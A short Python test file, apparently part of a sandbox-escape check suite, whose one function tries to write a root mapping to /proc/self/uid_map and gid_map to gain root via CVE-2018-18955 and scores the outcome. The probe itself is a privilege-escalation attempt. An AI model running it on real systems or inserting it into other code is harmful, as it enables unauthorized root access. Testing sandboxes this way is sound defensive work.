"""Write a map of users that makes us root (CVE-2018-18955).

See: https://nvd.nist.gov/vuln/detail/CVE-2018-18955
Layers: main bare
"""


def attempt():
    for name in ("uid_map", "gid_map"):
        try:
            if os.write(os.open(f"/proc/self/{name}", os.O_WRONLY), b"0 0 1\n"):
                return 1.0
        except OSError:
            pass
    return 0.0
